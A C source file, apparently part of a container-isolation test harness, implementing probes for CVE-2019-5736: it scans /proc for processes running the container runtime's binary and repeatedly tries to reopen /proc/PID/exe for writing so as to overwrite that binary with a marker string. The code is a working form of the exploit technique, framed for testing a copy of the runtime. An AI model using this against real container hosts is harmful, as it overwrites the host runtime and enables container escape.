/* SPDX-License-Identifier: GPL-2.0-or-later */
/* CVE-2019-5736: overwrite the runtime binary through /proc/PID/exe of a runtime process that
 * is inside the container's pid namespace (the init before its exec, an `exec` joining it, or
 * the runtime run as a `#!/proc/self/exe` interpreter).  The test passes the runtime binary's
 * device and inode (a copy, run as the runtime for this test): success is a write to it. */
#define _GNU_SOURCE
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

struct watch {
	unsigned long dev, ino;
	int held[MAX_HELD]; /* O_PATH fds of /proc/PID/exe that are the runtime binary */
	int n_held;
	int opened, denied, last_errno;
};

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static bool is_runtime(const struct watch *w, int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == w->dev && st.st_ino == w->ino;
}

/* The held fd reopened for writing (ETXTBSY while the runtime still runs it); the write
 * itself is the proof, and the host sees it in the binary's checksum. */
static bool try_write(int fd)
{
	char path[64];
	int wfd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	wfd = open(path, O_WRONLY | O_CLOEXEC);
	if (wfd < 0)
		return false;
	if (pwrite(wfd, "ESCAPED", 7, 0) != 7) {
		close(wfd);
		return false;
	}
	close(wfd);
	return true;
}

static void look_at(struct watch *w, const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	/* a direct write open first (what the original exploit did after the runtime exited) */
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (is_runtime(w, fd) && pwrite(fd, "ESCAPED", 7, 0) == 7)
			w->held[w->n_held < MAX_HELD ? w->n_held++ : 0] = -2;
		close(fd);
	}
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM) {
			w->denied++;
			w->last_errno = errno;
		}
		return;
	}
	w->opened++;
	if (is_runtime(w, fd) && w->n_held < MAX_HELD)
		w->held[w->n_held++] = fd;
	else
		close(fd);
}

static void scan(struct watch *w)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char self[16];

	if (!d)
		return;
	snprintf(self, sizeof(self), "%d", getpid());
	while ((e = readdir(d)))
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self) != 0)
			look_at(w, e->d_name);
	closedir(d);
}

static int exe_watch(int argc, char **argv)
{
	struct watch w = {0};
	double end;

	if (argc < 3 || sscanf(argv[1], "%lu:%lu", &w.dev, &w.ino) != 2)
		return probe_error("usage: exe_watch DEV:INO SECONDS");
	end = now() + atof(argv[2]);
	/* the test waits for this line before it runs the runtime in here */
	printf("watching\n");
	while (now() < end) {
		scan(&w);
		for (int i = 0; i < w.n_held; i++)
			if (w.held[i] == -2 || try_write(w.held[i]))
				return escaped(
				    "wrote into the runtime binary %lu:%lu via /proc/PID/exe",
				    w.dev, w.ino);
	}
	if (w.n_held > 0)
		return refused("opened the runtime binary's /proc/PID/exe %d times, but never for "
			       "writing (%s)",
			       w.n_held, strerror(ETXTBSY));
	return refused(
	    "no /proc/PID/exe was the runtime binary (%d exe links opened, %d denied: %s)",
	    w.opened, w.denied, w.denied ? strerror(w.last_errno) : "none");
}

/* The runtime's binary through the container's own processes, right now (the container's
 * init after its exec, and any process of the container). */
static int proc_exe(int argc, char **argv)
{
	struct watch w = {0};

	if (argc < 2 || sscanf(argv[1], "%lu:%lu", &w.dev, &w.ino) != 2)
		return probe_error("usage: proc_exe DEV:INO");
	scan(&w);
	look_at(&w, "self");
	for (int i = 0; i < w.n_held; i++)
		if (w.held[i] == -2 || try_write(w.held[i]))
			return escaped("wrote into the runtime binary via /proc/PID/exe");
	if (w.n_held > 0)
		return escaped("a process of the container runs the runtime binary itself (%d)",
			       w.n_held);
	return refused("no process of the container is the runtime binary (%d exe links, %d "
		       "denied)",
		       w.opened, w.denied);
}

const struct technique selfexe_techniques[] = {
    {"exe_watch", "DEV:INO SECONDS", exe_watch},
    {"proc_exe", "DEV:INO", proc_exe},
    {NULL, NULL, NULL},
};
